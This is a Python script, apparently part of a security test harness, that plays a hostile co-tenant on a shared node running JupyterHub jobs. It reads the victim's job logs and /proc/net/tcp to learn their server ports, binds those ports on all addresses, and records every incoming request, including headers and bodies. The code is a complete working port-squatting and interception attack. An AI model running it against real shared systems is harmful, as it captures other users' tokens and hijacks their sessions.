"""A hostile co-tenant (run as bob on the job's node): takes alice's server port the moment it
can learn it, and records every request it receives.

Usage: squatter.py VICTIM_UID VICTIM_HOME OUT_DIR SECONDS

It learns ports two ways, as fast as it can (every 5 ms):
- from the victim's job output files (``VICTIM_HOME/jupyterhub_*.log``, when readable): any
  ``port N``, ``:N/`` or ``:N`` number there;
- from /proc/net/tcp and tcp6 (what ``ss -ltn`` shows): every listening socket of the
  victim's uid, and every port the victim's processes connect from or to on loopback.
For each port it binds every address it can: 0.0.0.0, 127.0.0.1, [::] (IPv6 only) and [::1],
and serves HTTP 200 on each. Every request (method, path, headers) goes to
OUT_DIR/requests.jsonl; every successful bind to OUT_DIR/bound.jsonl. OUT_DIR/armed marks
that it runs. Stops by itself after SECONDS.
"""

import glob
import json
import os
import re
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

VICTIM_UID, HOME, OUT, SECONDS = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
LOCK = threading.Lock()
tried = set()


def record(name, entry):
    with LOCK, open(os.path.join(OUT, name), "a") as f:
        f.write(json.dumps(entry) + "\n")


class Handler(BaseHTTPRequestHandler):
    def _any(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode(errors="replace") if length else ""
        record("requests.jsonl", {
            "method": self.command, "path": self.path, "headers": dict(self.headers.items()), "body": body,
            "local": self.server.server_address[:2],
        })
        data = b'{"squatter": true, "version": "9.9.9"}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = do_HEAD = _any

    def log_message(self, *args):
        pass


class V6Server(ThreadingHTTPServer):
    address_family = socket.AF_INET6

    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        super().server_bind()


def squat(port):
    if port in tried or not 1024 <= port <= 65535:
        return
    tried.add(port)
    for cls, addr in ((ThreadingHTTPServer, "0.0.0.0"), (ThreadingHTTPServer, "127.0.0.1"),
                      (V6Server, "::"), (V6Server, "::1")):
        try:
            server = cls((addr, port), Handler)
        except OSError:
            continue
        record("bound.jsonl", {"address": addr, "port": port, "t": time.time()})
        threading.Thread(target=server.serve_forever, daemon=True).start()


OLD_LOGS = set(glob.glob(os.path.join(HOME, "jupyterhub_*.log")))  # earlier jobs' output: not this spawn


def from_logs():
    for path in glob.glob(os.path.join(HOME, "jupyterhub_*.log")):
        if path in OLD_LOGS:
            continue
        try:
            text = open(path, errors="replace").read()
        except OSError:
            continue
        for m in re.finditer(r"(?:port |:)(\d{4,5})\b", text):
            squat(int(m.group(1)))


def from_proc():
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            if len(f) < 8 or int(f[7]) != VICTIM_UID:
                continue
            if f[3] == "0A":  # the victim listens: take the same port on other addresses
                squat(int(f[1].rsplit(":", 1)[1], 16))


def main():
    os.makedirs(OUT, exist_ok=True)
    open(os.path.join(OUT, "armed"), "w").close()
    end = time.monotonic() + SECONDS
    while time.monotonic() < end and not os.path.exists(os.path.join(OUT, "stop")):
        from_logs()
        from_proc()
        time.sleep(0.005)


if __name__ == "__main__":
    main()
